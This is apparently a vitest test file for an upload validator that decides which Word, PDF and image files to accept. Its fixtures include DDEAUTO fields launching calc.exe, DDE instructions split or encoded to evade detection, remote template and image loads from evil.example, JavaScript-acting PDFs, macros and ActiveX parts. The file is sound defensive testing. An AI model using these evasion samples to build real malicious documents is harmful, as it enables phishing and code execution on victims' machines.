import { zipOf } from "@packages/workbook/for-tests"
import { expect, it } from "vitest"
import { compoundOf, docxOf, pdfOf, plainPicture, wordMain } from "../../testing/files.ts"
import { documentType } from "./document-type.ts"

const pdf = pdfOf()
const docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"

it.each([
  ["a.docx", () => docxOf(), docx],
  ["a.DOCX", () => docxOf(), docx],
  ["a.doc", async () => compoundOf("WordDocument"), "application/msword"],
  ["a.pdf", async () => pdf, "application/pdf"],
  ["a.jpg", () => plainPicture("#123").jpeg().toBuffer(), "image/jpeg"],
  ["a.jpeg", () => plainPicture("#123").jpeg().toBuffer(), "image/jpeg"],
  ["a.jfif", () => plainPicture("#123").jpeg().toBuffer(), "image/jpeg"],
  ["a.JPE", () => plainPicture("#123").jpeg().toBuffer(), "image/jpeg"],
  ["a.png", () => plainPicture("#123").png().toBuffer(), "image/png"],
  ["a.gif", () => plainPicture("#123").gif().toBuffer(), "image/gif"],
])("accepts %s", async (name, bytes, contentType) => {
  expect(await documentType(name, await bytes())).toBe(contentType)
})

const types = (part: string, type = wordMain) =>
  `<Types><Default Extension="xml" ContentType="application/xml"/><Override PartName="${part}" ContentType="${type}"/></Types>`
const root = (...targets: string[]) =>
  `<Relationships>${targets.map((target, at) => `<Relationship Id="r${at}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${target}"/>`).join("")}</Relationships>`
/** A Word document whose main part has this name. */
const docxNamed = (name: string, parts: Record<string, string> = {}) =>
  zipOf({
    "[Content_Types].xml": types(`/${name}`),
    "_rels/.rels": root(name),
    [name]: "<w:document/>",
    ...parts,
  })

it.each(["word/document2.xml", "word/Document.xml", "other/main.xml"])(
  "accepts a docx whose main part is %s, as the package says",
  async (name) => {
    expect(await documentType("a.docx", await docxNamed(name))).toBe(docx)
  },
)

/** A document with a field, its instruction in pieces as Word splits it. */
const docxWithField = (...instruction: string[]) => {
  const run = (content: string) => `<w:r>${content}</w:r>`
  const mark = (type: string) => run(`<w:fldChar w:fldCharType="${type}"/>`)
  const pieces = instruction.map((piece) => run(`<w:instrText xml:space="preserve">${piece}</w:instrText>`))
  const field = `${mark("begin")}${pieces.join("")}${mark("separate")}${run("<w:t>x</w:t>")}${mark("end")}`
  return docxOf(wordMain, {
    "word/document.xml": `<w:document><w:body><w:p>${field}</w:p></w:body></w:document>`,
  })
}

it.each([
  [" PAGE "],
  [' HYPERLINK "https://a.example" '],
  [" INCLUDEPICTURE ", '"https://a.example/x.png" \\* MERGEFORMATINET'],
  [" REF DDE_Kapitel "],
])("accepts a docx with the field %s", async (...instruction) => {
  expect(await documentType("a.docx", await docxWithField(...instruction))).toBe(docx)
})

it.each([
  [' DDEAUTO c:\\\\windows\\\\calc.exe "x" '],
  ["DD", "E excel x"],
  [" &#68;DE excel x"],
  [' LINK Excel.Sheet "x.xlsx" '],
  [' INCLUDETEXT "x.docx" '],
])("refuses a docx with the field %s", async (...instruction) => {
  expect(await documentType("a.docx", await docxWithField(...instruction))).toBeUndefined()
})

const headerWith = (content: string) => docxOf(wordMain, { "word/header1.xml": `<w:hdr>${content}</w:hdr>` })
const macroMain = "application/vnd.ms-word.document.macroEnabled.main+xml"
/** Readers differ in which directory they use. */
async function twoContents(): Promise<Buffer> {
  const bytes = await docxOf(wordMain, { "[Content_Types].xmX": "<Types/>" })
  return Buffer.from(bytes.toString("latin1").replaceAll(".xmX", ".xml"), "latin1")
}
/** One external relation in an unusual spelling. */
const docxWith = (before: string, mode = "External", prefix = "", inside = "") => {
  const type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
  const relation = `<${prefix}Relationship ${before}Type="${type}" Target="https://evil.example/t.dotm" TargetMode="${mode}"/>`
  const rels = `<${prefix}Relationships xmlns:a-b="http://schemas.openxmlformats.org/package/2006/relationships">${inside}${relation}</${prefix}Relationships>`
  return docxOf(wordMain, { "word/_rels/settings.xml.rels": rels })
}
const sheetMain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"

const related = (type: string, target: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`

it.each([
  "https://aurel.example",
  "https://aurel.example/?a=1&amp;b=%3E",
  "mailto:a@aurel.example",
  "tel:+4940123",
  "file:///K:/Ablage/Liste.xlsx",
  "Anlage.docx",
])("accepts a docx with the link %s, which the reader must click", async (target) => {
  const links = related("hyperlink", target)
  expect(
    await documentType("a.docx", await docxOf(wordMain, { "word/_rels/document.xml.rels": links })),
  ).toBe(docx)
})

const actingPdf = "%PDF-1.7\n1 0 obj <</S /JavaScript /JS (x)>>"

it.each(["\ufeff", "\r\n", `\x1b%-12345X@PJL\r\n${" ".repeat(900)}`])(
  "accepts a PDF after %j, and checks it",
  async (before) => {
    expect(await documentType("a.pdf", Buffer.concat([Buffer.from(before), pdf]))).toBe("application/pdf")
    expect(await documentType("a.pdf", Buffer.from(before + actingPdf))).toBeUndefined()
  },
)

it.each([
  ["without an ending", "pdf", async () => pdf],
  ["with another format's ending", "a.docx", async () => pdf],
  ["with an ending that is not allowed", "a.html", async () => Buffer.from("<html>")],
  ["that is only called so", "a.pdf", async () => Buffer.from("<html>%PDF-1.7")],
  ["behind a mark that is only called so", "a.pdf", async () => Buffer.from("\ufeff <html>%PDF-1.7")],
  ["whose PDF begins too late", "a.pdf", async () => Buffer.concat([Buffer.alloc(1024, " "), pdf])],
  ["that is empty", "a.pdf", async () => Buffer.alloc(0)],
  ["any zip", "a.docx", () => zipOf({ "a.txt": "a" })],
  ["a zip with Word's folder alone", "a.docx", () => zipOf({ "word/document.xml": "<w:document/>" })],
  [
    "whose main part is of another type",
    "a.docx",
    () =>
      zipOf({
        "[Content_Types].xml": types("/word/a.xml"),
        "_rels/.rels": root("word/b.xml"),
        "word/a.xml": "",
        "word/b.xml": "",
      }),
  ],
  [
    "with two main parts",
    "a.docx",
    () =>
      docxOf(wordMain, { "_rels/.rels": root("word/document.xml", "word/other.xml"), "word/other.xml": "" }),
  ],
  [
    "with an active field in one tag",
    "a.docx",
    () => headerWith(`<w:fldSimple w:dirty="true" w:instr=' DDEAUTO x '/>`),
  ],
  [
    "with a field whose kind is composed",
    "a.docx",
    () =>
      headerWith(
        `<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType="end"/>`,
      ),
  ],
  [
    "with a field in a hidden spelling",
    "a.docx",
    () => headerWith("<w:instrText><![CDATA[DDE x]]></w:instrText>"),
  ],
  ["with an active field under another prefix", "a.docx", () => headerWith('<x:fldSimple x:instr="DDE x"/>')],
  ["that only begins like a PDF", "a.pdf", async () => Buffer.from("%PDF-1.7\n%%EOF\n")],
  [
    "of old with an object of another program",
    "a.doc",
    async () => Buffer.concat([compoundOf("WordDocument"), compoundOf("\x01Ole10Native").subarray(1024)]),
  ],
  [
    "of old with an active field",
    "a.doc",
    async () =>
      Buffer.concat([compoundOf("WordDocument"), Buffer.from('\x13 DDEAUTO c:\\calc.exe "x" \x14')]),
  ],
  [
    "of old with an active field in UTF-16",
    "a.doc",
    async () => Buffer.concat([compoundOf("WordDocument"), Buffer.from("\x13 DDE x", "utf16le")]),
  ],
  ["a sheet", "a.docx", () => docxOf(sheetMain)],
  ["with macros", "a.docx", () => docxOf(macroMain)],
  ["with hidden macros", "a.docx", () => docxOf(wordMain, { "word/vbaProject.bin": "x" })],
  ["with a huge table of contents", "a.docx", () => docxOf(wordMain + " ".repeat(2_000_000))],
  ["with two tables of contents", "a.docx", twoContents],
  [
    "that loads a template from elsewhere",
    "a.docx",
    () =>
      docxOf(wordMain, {
        "word/_rels/settings.xml.rels": related("attachedTemplate", "https://evil.example/t.dotm"),
      }),
  ],
  [
    "that loads a picture from elsewhere",
    "a.docx",
    () =>
      docxOf(wordMain, { "word/_rels/document.xml.rels": related("image", "https://evil.example/seen.png") }),
  ],
  ["with a relation behind a > in an attribute", "a.docx", () => docxWith('Id="a>b" ')],
  ["with a mode by numbers", "a.docx", () => docxWith("", "&#69;xternal")],
  ["with a mode that is written otherwise", "a.docx", () => docxWith("", "external")],
  ["with the mode twice", "a.docx", () => docxWith('TargetMode="Internal" ')],
  ["with an unusual prefix", "a.docx", () => docxWith("", "External", "a-b:")],
  ["with relations that are commented", "a.docx", () => docxWith("", "Internal", "", "<!-- > -->")],
  ["that calls what lies elsewhere internal", "a.docx", () => docxWith("", "Internal")],
  ["with an embedded file", "a.docx", () => docxOf(wordMain, { "word/embeddings/oleObject1.xlsx": "x" })],
  ["with a control", "a.docx", () => docxOf(wordMain, { "word/activeX/activeX1.xml": "<x/>" })],
  [
    "that grows beyond measure",
    "a.docx",
    () => docxOf(wordMain, { "word/media/a.txt": " ".repeat(3_000_000) }),
  ],
  ["that acts when it is opened", "a.pdf", async () => Buffer.from(actingPdf)],
  [
    "of old with macros",
    "a.doc",
    async () => Buffer.concat([compoundOf("WordDocument"), Buffer.from("_VBA_PROJECT\0", "utf16le")]),
  ],
  [
    "of a picture that is cut",
    "a.jpg",
    async () => (await plainPicture("#123").jpeg().toBuffer()).subarray(0, -40),
  ],
  ["a cut zip", "a.docx", async () => (await docxOf()).subarray(0, -40)],
  ["an Excel file of old", "a.doc", async () => compoundOf("Workbook")],
  [
    "a compound file that only mentions Word",
    "a.doc",
    async () => Buffer.concat([compoundOf("Workbook"), Buffer.from("WordDocument\0", "utf16le")]),
  ],
  ["the start of a compound file", "a.doc", async () => compoundOf("WordDocument").subarray(0, 100)],
])("refuses a file %s", async (_, name, bytes) => {
  expect(await documentType(name, await bytes())).toBeUndefined()
})
